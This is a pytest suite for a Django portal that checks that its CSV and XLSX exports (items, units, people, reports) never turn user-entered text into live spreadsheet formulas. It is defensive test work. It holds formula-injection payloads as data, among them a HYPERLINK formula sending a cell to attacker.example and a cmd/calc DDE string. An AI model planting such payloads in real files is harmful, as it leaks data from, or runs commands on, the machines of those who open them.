"""No file the portal writes lets a spreadsheet run a cell: every writer, reached as a user reaches it.

A title (or a unit's or a person's name) starting with = + - @, a tab or a carriage return is a formula to
Excel and WPS when it lands in a cell as typed. CSV cells get a leading apostrophe (spreadsheets take it as
"text", the ledger import strips it); XLSX cells are string cells, never formulas.
"""

from __future__ import annotations

import csv
import datetime
import io
from collections.abc import Callable

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from apps.accounts.models import Role, User
from apps.core.exports import FORMULA_STARTS, csv_guard
from apps.items.models import Action
from apps.items.services import item_apply_action
from apps.ledger.models import ExportJob
from apps.ledger.reading import ledger_read
from apps.org.models import Unit, UnitLevel
from apps.reports.models import Report, ReportStatus
from apps.reports.periods import ReportKind
from apps.reports.services import report_request
from tests.factories import UnitFactory, UserFactory, WorkItemFactory
from tests.reports.conftest import WEEK_START, travel_to

# What a malicious title looks like after each start: a link that sends the sheet's first cell away.
BODY = 'HYPERLINK("https://attacker.example/?"&A1,"点击")'
MARK = "attacker.example"
STARTS = pytest.mark.parametrize("start", FORMULA_STARTS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
FORMATS = pytest.mark.parametrize("file_format", ["csv", "xlsx"])


@pytest.fixture(autouse=True)
def _own_media_root(media_root):
    """Report and export files of one test never meet another's."""


def api_client(user: User) -> APIClient:
    client = APIClient()
    token, _created = Token.objects.get_or_create(user=user)
    client.credentials(HTTP_AUTHORIZATION=f"Token {token.key}")
    return client


def content_of(response) -> bytes:
    assert response.status_code == 200, getattr(response, "content", response)
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_never_a_formula(content: bytes, file_format: str, payload: str) -> None:
    """Every cell holding the payload is inert text, and the payload is there at least once."""
    if file_format == "csv":
        assert content.startswith(b"\xef\xbb\xbf")
        cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
        found = [cell for cell in cells if MARK in cell]
        assert found, "the payload is not in the file"
        for cell in found:
            assert cell.startswith("'" + payload), repr(cell)
        return
    workbook = load_workbook(io.BytesIO(content))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if MARK in str(cell.value):
                    found.append(cell)
    assert found, "the payload is not in the file"
    for cell in found:
        assert cell.data_type == "s"
        # XML reads a carriage return back as a line feed; the text is otherwise as written, no apostrophe.
        assert cell.value.startswith(payload.replace("\r", "\n")), repr(cell.value)


# --- the rule itself ---------------------------------------------------------------------------------


@STARTS
def test_csv_guard_puts_an_apostrophe_before_text_starting_like_a_formula(start):
    assert csv_guard(start + BODY) == "'" + start + BODY


@pytest.mark.parametrize("value", ["+3", "-1", "+0.5", "-12.75", 5, None, "供水", "", "3-5户", "'=A1"])
def test_csv_guard_leaves_numbers_and_plain_text_alone(value):
    # "+3" is a report's change against the previous one: a spreadsheet reads it as a number, never runs it.
    assert csv_guard(value) == value


@pytest.mark.parametrize("value", ["-1+1", "+1)", "-2+3+cmd|' /C calc'!A0", "-1e5", "+ 3", "-"])
def test_csv_guard_guards_what_only_looks_like_a_number(value):
    assert csv_guard(value) == "'" + value


# --- item exports: the list page, the API, the worker -----------------------------------------------------


@pytest.fixture
def poisoned_item(district, owner):
    def make(payload: str):
        return WorkItemFactory(unit=district, by=owner, title=payload, beneficiaries=payload, requirements=payload)

    return make


@STARTS
@FORMATS
def test_item_export_of_the_list_page_never_holds_a_formula(start, file_format, client, owner, poisoned_item):
    payload = start + BODY
    poisoned_item(payload)
    client.force_login(owner)

    content = content_of(client.get(reverse("ledger:export", args=[file_format])))

    assert_never_a_formula(content, file_format, payload)


@STARTS
@FORMATS
def test_item_export_of_the_api_never_holds_a_formula(start, file_format, leader, poisoned_item):
    payload = start + BODY
    poisoned_item(payload)

    content = content_of(api_client(leader).get(f"/api/v1/items/export/{file_format}/"))

    assert_never_a_formula(content, file_format, payload)


@STARTS
@FORMATS
def test_item_export_written_by_the_worker_never_holds_a_formula(
    start, file_format, client, owner, poisoned_item, settings, django_capture_on_commit_callbacks
):
    # given: a list longer than a page request writes itself
    settings.EXPORT_INLINE_MAX_ROWS = 0
    payload = start + BODY
    poisoned_item(payload)
    client.force_login(owner)

    # when
    with django_capture_on_commit_callbacks(execute=True):
        client.get(reverse("ledger:export", args=[file_format]))
    job = ExportJob.objects.get()

    # then
    assert_never_a_formula(
        content_of(client.get(reverse("ledger:export_job_download", args=[job.pk]))), file_format, payload
    )


@STARTS
def test_item_export_csv_imports_again_with_the_title_as_written(start, client, owner, poisoned_item):
    payload = start + BODY
    poisoned_item(payload)
    client.force_login(owner)

    content = content_of(client.get(reverse("ledger:export", args=["csv"])))
    rows, problems = ledger_read(io.BytesIO(content), "台账.csv")

    # The import takes the apostrophe off again: the title comes back as it was written.
    assert problems == [] and rows[0].cells["title"] == payload


# --- unit, people and report archive lists -------------------------------------------------------------------


@STARTS
@FORMATS
def test_unit_export_never_holds_a_formula(start, file_format, leader, district):
    payload = start + BODY
    UnitFactory(name=payload, code="EVIL", level=UnitLevel.TOWNSHIP, parent=district)

    content = content_of(api_client(leader).get(f"/api/v1/units/export/{file_format}/"))

    assert_never_a_formula(content, file_format, payload)


@STARTS
@FORMATS
def test_people_export_never_holds_a_formula(start, file_format, leader, district):
    payload = start + BODY
    UserFactory(full_name=payload, title=payload, unit=district)

    content = content_of(api_client(leader).get(f"/api/v1/people/export/{file_format}/"))

    assert_never_a_formula(content, file_format, payload)


def archived_report(unit: Unit) -> Report:
    return Report.objects.create(
        kind=ReportKind.WEEKLY,
        period_start=datetime.date(2021, 6, 7),
        period_end=datetime.date(2021, 6, 13),
        unit=unit,
        status=ReportStatus.COMPLETE,
        progress=100,
        data={"total": {"planned": 1, "completed": 1, "rate": "100.0", "overdue": 0}},
    )


@STARTS
@FORMATS
def test_report_archive_export_never_holds_a_formula(start, file_format, client, leader, district):
    payload = start + BODY
    archived_report(UnitFactory(name=payload, code="EVIL", level=UnitLevel.TOWNSHIP, parent=district))
    client.force_login(leader)

    page = content_of(client.get(reverse("reports:export", args=[file_format])))
    api = content_of(api_client(leader).get(f"/api/v1/reports/export/{file_format}/"))

    assert_never_a_formula(page, file_format, payload)
    assert_never_a_formula(api, file_format, payload)


# --- the report's own files ---------------------------------------------------------------------------------


@pytest.fixture
def poisoned_report(city, district, owner, leader, supervisor, django_capture_on_commit_callbacks) -> Callable:
    """The city's weekly report, where a unit's name, an item's title and a return reason are the payload."""

    def produce(payload: str) -> Report:
        staff = UserFactory(unit=city, roles=[Role.REPORTING_STAFF])
        UnitFactory(name=payload, code="EVIL", level=UnitLevel.COUNTY, parent=city)
        with travel_to(datetime.date(2021, 6, 1)):
            item = WorkItemFactory(unit=district, by=owner, title=payload, deadline=datetime.date(2021, 6, 30))
        with travel_to(datetime.date(2021, 6, 8)):
            for action in (Action.SUBMIT, Action.APPROVE, Action.START, Action.COMPLETE, Action.RETURN):
                by = {Action.APPROVE: leader, Action.RETURN: supervisor}.get(action, owner)
                item = item_apply_action(item=item, by=by, action=action, reason=payload)
        with travel_to(datetime.date(2021, 6, 14)), django_capture_on_commit_callbacks(execute=True):
            report = report_request(kind=ReportKind.WEEKLY, day=WEEK_START, unit=city, by=staff)
        report.refresh_from_db()
        assert report.status == ReportStatus.COMPLETE, report.error
        return report

    return produce


@STARTS
@FORMATS
def test_report_files_never_hold_a_formula(start, file_format, client, leader, poisoned_report):
    payload = start + BODY
    report = poisoned_report(payload)
    client.force_login(leader)

    page = content_of(client.get(reverse("reports:download", args=[report.pk, file_format])))
    api = content_of(api_client(leader).get(f"/api/v1/reports/{report.pk}/download/{file_format}/"))

    assert_never_a_formula(page, file_format, payload)
    assert_never_a_formula(api, file_format, payload)
